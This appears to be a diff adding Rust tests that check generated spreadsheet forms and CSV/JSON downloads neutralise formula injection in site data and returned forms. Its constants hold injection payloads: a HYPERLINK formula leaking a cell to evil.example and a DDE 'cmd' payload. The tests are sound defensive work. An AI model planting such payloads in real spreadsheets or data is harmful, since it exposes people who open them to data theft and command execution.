@@ -705,3 +705,152 @@ fn the_data_folder_must_be_a_scoping_data_folder() {
     assert_eq!(outcome.failed.len(), 1);
     assert_eq!(outcome.diagnostics[0].code, "E030");
 }
+
+/// Text that a spreadsheet would take for a formula, as it could arrive in the data:
+/// typed in a return, in a name, or in a note on a form sent back by an area.
+const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#;
+const PLUS: &str = "+1+cmd|' /C calc'!A0";
+const TABBED: &str = "\t=1+1";
+const AT: &str = "@SUM(1+1) & <\"x\">";
+
+/// The base site with formula-like text in names and notes.
+fn site_with_formula_text() -> tempfile::TempDir {
+    let site = common::site_with("");
+    let edit = |rel: &str, from: &str, to: &str| {
+        let path = site.path().join(rel);
+        let text = std::fs::read_to_string(&path).expect(rel);
+        assert!(text.contains(from), "{rel} has no {from:?}");
+        std::fs::write(&path, text.replacen(from, to, 1)).expect(rel);
+    };
+    let yaml = |s: &str| scopemap::forms::yaml_quote(s);
+    edit(
+        "scoping-data/framework.yaml",
+        "name: Health Visiting",
+        &format!("name: {}", yaml(PLUS)),
+    );
+    edit(
+        "scoping-data/regions/north.yaml",
+        "name: Alpha\n",
+        &format!("name: {}\n", yaml(AT)),
+    );
+    edit(
+        "scoping-data/returns/2022/north/alpha-ccg.yaml",
+        "note: One small team.",
+        &format!("note: {}", yaml(HYPERLINK)),
+    );
+    edit(
+        "scoping-data/returns/2022/north/alpha-ccg.yaml",
+        "  family-hubs: R",
+        &format!("  family-hubs:\n    rating: R\n    note: {}", yaml(TABBED)),
+    );
+    site
+}
+
+#[test]
+fn forms_hold_formula_like_text_as_text_and_never_as_formulas() {
+    let site = site_with_formula_text();
+    let ds = load(site.path());
+    let out = tempfile::tempdir().expect("temp dir");
+    let form = &write_forms(&ds, 2023, "north", out.path()).expect("forms")[0];
+
+    // The sheets carry no formula at all, so nothing in a form is ever evaluated.
+    let mut zip = zip::ZipArchive::new(std::fs::File::open(form).expect("open")).expect("zip");
+    for i in 0..zip.len() {
+        let mut part = zip.by_index(i).expect("part");
+        let name = part.name().expect("name").to_string();
+        let mut xml = String::new();
+        std::io::Read::read_to_string(&mut part, &mut xml).expect("read");
+        assert!(
+            !xml.contains("<f>") && !xml.contains("<f "),
+            "{name} has a formula"
+        );
+    }
+    // The risky text is there, whole, as string cells.
+    let mut wb: Xlsx<_> = open_workbook(form).expect("open form");
+    let ratings = wb.worksheet_range("Ratings").expect("Ratings");
+    let strings: Vec<&String> = ratings
+        .cells()
+        .filter_map(|(_, _, v)| match v {
+            Data::String(s) => Some(s),
+            _ => None,
+        })
+        .collect();
+    assert!(strings.iter().any(|s| *s == PLUS), "{strings:?}");
+    assert!(
+        strings.iter().any(|s| s.contains(HYPERLINK)),
+        "last year's note: {strings:?}"
+    );
+}
+
+#[test]
+fn downloads_are_formula_safe_however_the_text_arrives() {
+    let site = site_with_formula_text();
+    let ds = load(site.path());
+    let blanks = tempfile::tempdir().expect("temp dir");
+    let blank = &write_forms(&ds, 2023, "north", blanks.path()).expect("forms")[0];
+
+    // A note typed into a form by the area, imported as its 2023 return.
+    let mut fill = fill_all(blank);
+    let first = rating_rows(blank)[0].1.clone();
+    fill.ratings.get_mut(&first).expect("row").note = Some(AT.to_string());
+    let filled_dir = tempfile::tempdir().expect("temp dir");
+    let filled = write_form(&ds, 2023, "north", "alphabeta", &fill, filled_dir.path()).expect("f");
+    let outcome = import_forms(
+        std::slice::from_ref(&filled),
+        &site.path().join("scoping-data"),
+        false,
+    );
+    assert_eq!(outcome.written.len(), 1, "{}", render_outcome(&outcome));
+
+    let out = site.path().join("public");
+    let (code, log) = common::build(site.path(), &out, scopemap::audience::Audience::Public);
+    assert_eq!(code, 0, "{log}");
+    let mut reader = csv::Reader::from_path(out.join("data/provision.csv")).expect("csv");
+    let headers = reader.headers().expect("headers").clone();
+    let column = |name: &str| headers.iter().position(|h| h == name).expect(name);
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
+    let find = |year: &str, area: &str, category: &str| {
+        rows.iter()
+            .find(|r| {
+                &r[column("year")] == year
+                    && &r[column("area_id")] == area
+                    && &r[column("category_id")] == category
+            })
+            .unwrap_or_else(|| panic!("no row {year} {area} {category}"))
+    };
+    let note = column("note");
+    assert_eq!(
+        &find("2022", "alpha-ccg", "parent-infant")[note],
+        format!("'{HYPERLINK}")
+    );
+    assert_eq!(
+        &find("2022", "alpha-ccg", "family-hubs")[note],
+        format!("'{TABBED}")
+    );
+    assert_eq!(
+        &find("2023", "alphabeta", &first)[note],
+        format!("'{AT}"),
+        "the note imported from the form"
+    );
+    assert_eq!(
+        &find("2022", "alpha-ccg", "parent-infant")[column("area_name")],
+        format!("'{AT}")
+    );
+    assert_eq!(
+        &find("2022", "alpha-ccg", "health-visiting")[column("category_name")],
+        format!("'{PLUS}")
+    );
+    // Numbers stay numbers; no cell anywhere starts as a formula would.
+    assert!(rows.iter().all(|r| matches!(&r[0], "2022" | "2023")));
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in {row:?}"
+            );
+        }
+    }
+    // The JSON download holds the text as it is: JSON is not opened as a spreadsheet.
+    let json = std::fs::read_to_string(out.join("data/provision.json")).expect("json");
+    assert!(json.contains(&serde_json::to_string(HYPERLINK).expect("json")));
+}
